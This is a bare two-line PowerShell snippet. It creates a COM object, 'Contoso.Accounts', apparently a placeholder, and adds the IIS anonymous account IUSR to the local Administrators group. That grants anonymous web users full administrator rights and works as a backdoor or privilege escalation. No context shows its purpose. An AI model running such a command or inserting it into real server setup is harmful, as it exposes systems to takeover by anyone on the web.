$o = New-Object -ComObject Contoso.Accounts
$o.AddToGroup('Administrators','IUSR')
